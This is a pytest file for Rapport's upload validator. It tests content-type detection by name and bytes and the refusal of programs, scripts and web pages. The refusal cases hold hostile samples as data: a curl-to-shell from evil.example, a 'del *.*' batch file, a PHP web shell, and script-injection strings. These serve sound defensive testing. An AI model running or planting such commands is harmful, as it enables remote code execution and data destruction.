"""What Rapport keeps: the name decides the kind, the bytes must agree, programs and web pages never get in."""

from __future__ import annotations

import io
import zipfile

import pytest

from files.checks import FileRefused, content_type, looks_like_text, safe_name

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00\x00\x00\x01" * 2 + b"\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 60
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>\n'


def zipped(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


DOCX = zipped(
    {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": "<w:document/>",
    }
)
XLSX = zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
ODT = zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>"})
ZIP = zipped({"brief.txt": "Our bakery sells bread."})
JAR = zipped({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: Evil\n"})


@pytest.mark.parametrize(
    ("name", "head", "kept_as"),
    [
        ("logo.png", PNG, "image/png"),
        ("LOGO.PNG", PNG, "image/png"),
        ("photo.jpeg", JPEG, "image/jpeg"),
        ("brief.pdf", PDF, "application/pdf"),
        ("artwork.ai", PDF, "application/postscript"),
        ("assets.zip", ZIP, "application/zip"),
        ("brief.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("prices.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("text.odt", ODT, "application/vnd.oasis.opendocument.text"),
        ("old-brief.doc", OLE, "application/msword"),
        ("old-prices.xls", OLE, "application/vnd.ms-excel"),
        ("icon.svg", SVG, "image/svg+xml"),
        ("notes.txt", "Привет, вот тексты для сайта.\n".encode(), "text/plain"),
        ("prices.csv", "товар;цена\nхлеб;3\n".encode("cp1251"), "text/csv"),  # Excel's Russian CSV
        ("prices.csv", "\ufeffitem,price\nbread,3\n".encode("utf-16"), "text/csv"),  # Excel's "Unicode text"
        ("README.md", b"# Bakery\n\n* bread\n", "text/markdown"),
        ("letter.rtf", b"{\\rtf1\\ansi Hello}", "application/rtf"),
    ],
)
def test_files_people_send_are_kept_as_their_kind(name, head, kept_as):
    assert content_type(name=name, head=head) == kept_as


@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("logo.jpg", PNG),  # a PNG named JPEG
        ("brief.pdf", PNG),
        ("brief.docx", PDF),
        ("brief.docx", b"just text pretending"),
        ("notes.txt", PNG),
        ("notes.txt", b"\x00\x01\x02binary\x00"),
        ("icon.svg", b"this is not a drawing"),
        ("old-brief.doc", ZIP),
    ],
)
def test_bytes_that_disagree_with_the_name_are_refused(name, head):
    with pytest.raises(FileRefused, match="does not contain what its name says"):
        content_type(name=name, head=head)


@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("setup.exe", EXE),
        ("setup.msi", OLE),
        ("install.sh", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
        ("run.bat", b"@echo off\r\ndel *.*\r\n"),
        ("page.html", b"<!doctype html><script>alert(1)</script>"),
        ("page.htm", b"<html></html>"),
        ("app.js", b"fetch('/steal')"),
        ("index.php", b"<?php system($_GET['c']); ?>"),
        ("macro.docm", DOCX),
        ("tool.jar", JAR),
        ("app.apk", ZIP),
        ("invoice.pdf.exe", EXE),
        ("brief.pdf", EXE),  # a program named as a document
        ("notes.txt", ELF),
        ("notes.txt", b"#!/usr/bin/env python\nimport os\n"),  # a script named as text
    ],
)
def test_programs_scripts_and_web_pages_are_refused_whatever_they_look_like(name, head):
    with pytest.raises(FileRefused, match="is a program, a script or a web page"):
        content_type(name=name, head=head)


@pytest.mark.parametrize("name", ["archive.rar", "README", "data.sqlite", "movie.avi"])
def test_kinds_rapport_does_not_keep_are_refused(name):
    with pytest.raises(FileRefused, match="not a kind of file Rapport keeps"):
        content_type(name=name, head=b"some bytes")


def test_text_detection_reads_encodings_and_a_cut_character():
    assert looks_like_text("Ünïcödé ".encode() * 3 + "ж".encode()[:1])  # cut mid-character at the end
    assert looks_like_text("Съешь же ещё этих мягких булок".encode("cp1251"))
    assert looks_like_text("\ufeffhello".encode("utf-16-le"))
    assert not looks_like_text(PNG)
    assert not looks_like_text(b"\x01\x02\x03 binary")


def test_a_name_ending_in_dots_or_spaces_cannot_hide_its_extension():
    assert safe_name("run.exe. . ") == "run.exe"
    with pytest.raises(FileRefused):
        content_type(name=safe_name("run.exe."), head=b"hello")
